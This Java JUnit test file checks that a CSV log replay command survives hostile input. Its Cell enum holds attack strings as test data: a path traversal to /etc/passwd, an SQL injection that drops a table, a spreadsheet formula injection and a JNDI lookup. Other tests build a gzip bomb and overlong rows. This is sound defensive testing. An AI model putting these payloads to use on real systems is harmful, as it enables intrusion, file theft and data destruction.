package org.itsmkit.examples.replay;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.zip.GZIPOutputStream;
import org.itsmkit.examples.CommandRun;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

/** P11: a log that is made to hurt who replays it gives an error with its line, or no log at all; and what is good in it counts. */
class CsvBombTest {

    private static final int MEBIBYTE = 1 << 20;

    @TempDir
    private Path directory;

    private static List<String> lines(int most) throws IOException {
        return new ArrayList<>(Files.readAllLines(ExcerptOracle.EXCERPT).subList(0, most));
    }

    private static CommandRun replay(Path file) {
        return CommandRun.of("replay", file.toString(), "--database", "memory", "--workers", "1");
    }

    private CommandRun replay(List<String> lines) throws IOException {
        return replay(Files.writeString(directory.resolve("bomb.csv"), String.join("\n", lines) + "\n"));
    }

    enum Cell {
        HUGE("x".repeat(2 * MEBIBYTE)),
        A_MILLION_DIGITS("9".repeat(1_000_000)),
        NUL("a\0b"),
        FORMULA("=HYPERLINK(\"\"http://example.org\"\")"),
        PATH("../../../etc/passwd"),
        SQL("'; DROP TABLE itsm_record; --"),
        BIDI("\u202eltr"),
        COMBINING("a" + "\u0301".repeat(100_000)),
        LOOKUP("${jndi:ldap://example.org/a}");

        private final String text;

        Cell(String text) {
            this.text = text;
        }
    }

    /** In each column of one row, one at a time: the row is replayed, or is the one error, and the others count. */
    @ParameterizedTest
    @EnumSource
    void aCellOfAnyColumnHurtsItsRowAlone(Cell cell) throws IOException {
        List<String> columns = Arrays.asList(lines(1).get(0).split(","));
        for (int column = 0; column < columns.size(); column += 5) {
            List<String> lines = lines(6);
            String[] cells = lines.get(2).split(",", -1);
            cells[column] = "\"" + cell.text + "\"";
            lines.set(2, String.join(",", cells));

            CommandRun run = replay(lines);

            assertThat(run.exitCode()).as(columns.get(column)).isBetween(0, 1);
            assertThat(run.json().get("events").asInt()).as(columns.get(column)).isBetween(3, 5);
            assertThat(run.json().get("foldLawHolds").asBoolean()).isTrue();
            assertThat(run.err()).hasSizeLessThan(20_000).doesNotContain("\tat ");
        }
    }

    @Test
    void aQuoteThatNeverEndsIsAnErrorAndNoMemoryIsSpentOnIt() throws IOException {
        Path file = directory.resolve("quote.csv");
        try (OutputStream out = Files.newOutputStream(file)) {
            out.write((String.join("\n", lines(6)) + "\n\"").getBytes(StandardCharsets.UTF_8));
            byte[] block = "x,\n".repeat(MEBIBYTE / 3).getBytes(StandardCharsets.UTF_8);
            for (int i = 0; i < 64; i++) {
                out.write(block);
            }
        }

        CommandRun run = replay(file);

        assertThat(run.exitCode()).isEqualTo(1);
        assertThat(run.json().get("events").asInt()).isEqualTo(5);
        assertThat(run.err()).contains("line 7").hasSizeLessThan(5_000);
    }

    @Test
    void aRowOfAMillionColumnsIsAnError() throws IOException {
        List<String> lines = lines(6);
        lines.set(3, ",".repeat(1_000_000));

        CommandRun run = replay(lines);

        assertThat(run.exitCode()).isEqualTo(1);
        assertThat(run.err()).contains("line 4").hasSizeLessThan(5_000);
    }

    @Test
    void aHeaderOfManyColumnsIsNoLog() throws IOException {
        for (String header :
                List.of("number,".repeat(10_000), "x".repeat(4 * MEBIBYTE), ",".repeat(10_000), "\0\0\0", "\"number")) {
            CommandRun run = replay(List.of(header, "1,2"));

            assertThat(run.exitCode()).isEqualTo(2);
            assertThat(run.err()).contains("line 1").hasSizeLessThan(5_000).doesNotContain("\tat ");
        }
    }

    @Test
    void whatIsPackedAThousandfoldIsReadNoFurtherThanItMakesSense() throws IOException {
        Path file = directory.resolve("bomb.csv.gz");
        try (OutputStream out = new GZIPOutputStream(Files.newOutputStream(file))) {
            byte[] block = new byte[MEBIBYTE];
            Arrays.fill(block, (byte) 'x');
            for (int i = 0; i < 256; i++) {
                out.write(block);
            }
        }
        assertThat(Files.size(file)).isLessThan(MEBIBYTE);

        CommandRun run = replay(file);

        assertThat(run.exitCode()).isEqualTo(2);
        assertThat(run.err()).contains("line 1").hasSizeLessThan(5_000);
    }
}
